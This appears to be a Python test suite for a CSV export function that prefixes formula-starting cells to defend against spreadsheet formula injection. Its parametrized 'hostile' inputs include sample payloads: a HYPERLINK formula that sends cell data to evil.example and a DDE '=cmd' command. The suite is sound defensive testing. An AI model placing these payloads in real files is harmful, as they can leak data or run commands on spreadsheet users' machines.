"""Tables as CSV: read back as they were, and nothing in them runs in a spreadsheet."""

import csv
import io
import re
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from foundation.spreadsheets import rows_as_csv

HEADER = ["id", "credits", "reason"]


def text_of(rows):
    return "".join(rows_as_csv(HEADER, rows))


def read_back(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def cell(value):
    """What a reader finds where the value was written."""
    header, row = read_back(text_of([["txn_1", 5, value]]))
    assert (header, row[:2]) == (HEADER, ["txn_1", "5"])
    return row[2]


def test_lines_end_as_the_standard_says():
    assert text_of([["txn_1", -5, None]]) == "id,credits,reason\r\ntxn_1,-5,\r\n"


def test_without_rows_there_is_a_header():
    assert text_of([]) == "id,credits,reason\r\n"


@pytest.mark.parametrize("number", [0, 5, -5, 10**18, -(10**18)])
def test_integers_are_numbers_that_a_spreadsheet_can_count(number):
    assert cell(number) == str(number)
    assert f",{number}\r\n" in text_of([["txn_1", 5, number]])


@pytest.mark.parametrize(
    "text",
    [
        "Goodwill",
        "a=b",
        "5 - 3",
        "New Year's special - monthly",
        "a@b.example",
        "Anna-Lena",
        "C++; fun",
        "Loved it ❤️ - thanks",
        "Dear Ann,\r\nthank you",
        "2026-11-29T10:00:00Z",
        "https://example.com/@ann?a=b&c=-1",
        "Zoë, ☃",
        'She said "no", twice',
        "one\ntwo",
        "one\r\ntwo",
        "'quoted'",
        "",
        "1;2",
        "\N{MINUS SIGN}5",
    ],
)
def test_plain_text_is_read_back_as_it_was(text):
    assert cell(text) == text


@pytest.mark.parametrize(
    ("hostile", "marked"),
    [
        ("=1+1", "’=1+1"),
        ("hello\n=1+1;x", "hello\n’=1+1;x"),
        (
            '=HYPERLINK("https://evil.example/?"&A1,"Click")',
            '’=HYPERLINK("https://evil.example/?"&A1,"Click")',
        ),
        ("=cmd|'/c calc'!A0", "’=cmd|'/c calc'!A0"),
        ("-1+1", "’-1+1"),
        ("-5", "’-5"),
        ("@SUM(A1:A9)", "’@SUM(A1:A9)"),
        ("x;=1", "x;’=1"),
        ("x|+1\t-1:@a", "x|’+1\t’-1:’@a"),
        ("x =1", "x ’=1"),
        ("a - =1", "a - ’=1"),
        ("a; - 1", "a; ’- 1"),
        ("a -", "a ’-"),
        ("x;'=1", "x;'’=1"),
        ('x;"" =1', 'x;"" ’=1'),
        ("\t=1+1", "’\t’=1+1"),
        ("\r=1+1", "’\r’=1+1"),
        ("\0=1+1", "\0’=1+1"),
        ("\tharmless", "’\tharmless"),
        ("\r\nharmless", "’\r\nharmless"),
        ("   @SUM(1)", "   ’@SUM(1)"),
        ("\N{NO-BREAK SPACE}=1", "\N{NO-BREAK SPACE}’=1"),
        ("\N{ZERO WIDTH SPACE}=1", "\N{ZERO WIDTH SPACE}’=1"),
        ("＝1＋1", "’＝1＋1"),
        ("x;＠SUM(A1)", "x;’＠SUM(A1)"),
        ("=1\r\n=2", "’=1\r\n’=2"),
        ('","=1+1', '","’=1+1'),
    ],
)
def test_a_mark_is_before_what_could_begin_a_formula(hostile, marked):
    assert cell(hostile) == marked


def test_a_headline_is_made_harmless_too():
    assert next(rows_as_csv(["=1+1"], [])) == "’=1+1\r\n"


# --- However a spreadsheet is told to read the file -------------------------------------------------

SEPARATORS = (",", ";", "\t", "|", ":", " ")
READINGS: list[dict[str, Any]] = [
    {"delimiter": separator, **quotes, "skipinitialspace": skips}
    for separator in SEPARATORS
    for quotes in (
        {"quotechar": '"'},
        {"quotechar": '"', "doublequote": False},
        {"quotechar": "'"},
        {"quotechar": "'", "doublequote": False},
        {"quoting": csv.QUOTE_NONE},
    )
    for skips in (False, True)
]
OPERATORS = "=+-@＝＋－＠"
DROPPED = " \t\r\n\0\v\f\x1c\x85\xa0\u2003\u2028\u3000\u200b\ufeff\"'"


def formulas_in(text, numbers):
    """The cells that begin with an operator, in any reading of the file.

    Not a formula: a number of ours, or an operator alone, which a space as the separator leaves of "a - b".
    """
    cells = {
        cell
        for reading in READINGS
        for row in csv.reader(io.StringIO(text, newline=""), **reading)
        for cell in row
    }
    cells |= set(re.split("[,;|: \t\r\n\"']", text))  # Several separators at the same time.
    bare = {each.strip(DROPPED) for each in cells}
    return {each for each in bare if each[:1] in OPERATORS and len(each) > 1} - {
        str(each) for each in numbers
    }


NASTY = st.text(
    st.sampled_from(
        [*OPERATORS, *SEPARATORS, *DROPPED, *'ab1’.(/"', "❤", "\ufe0f", "\N{COMBINING ACUTE ACCENT}"]
    ),
    max_size=12,
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(NASTY, st.integers(-99, 99), NASTY, NASTY), max_size=3))
@example([("txn_1", -5, "hello\n=1+1;x", "")])
@example([('x;"', -5, "'=1'", '\n"=1')])
@example([("a -", -5, "-1 + 1", "'")])
def test_no_separator_and_no_quote_makes_a_formula(rows):
    text = "".join(rows_as_csv(["id", "credits", "name", "message"], rows))
    assert formulas_in(text, {row[1] for row in rows}) == set()


def test_without_the_marks_this_check_finds_formulas():
    assert formulas_in('id\r\n"hello\n=1+1;x"\r\n', ()) == {"=1+1", "=1+1;x"}


def test_rows_are_taken_as_they_are_sent():
    taken = []

    def rows():
        for number in range(5000):
            taken.append(number)
            yield [f"txn_{number}", number, "Goodwill"]

    pieces = rows_as_csv(HEADER, rows())
    assert len(next(pieces)) < 20_000
    assert len(taken) < 1500
    rest = "".join(pieces)
    assert len(taken) == 5000
    assert rest.endswith("txn_4999,4999,Goodwill\r\n")
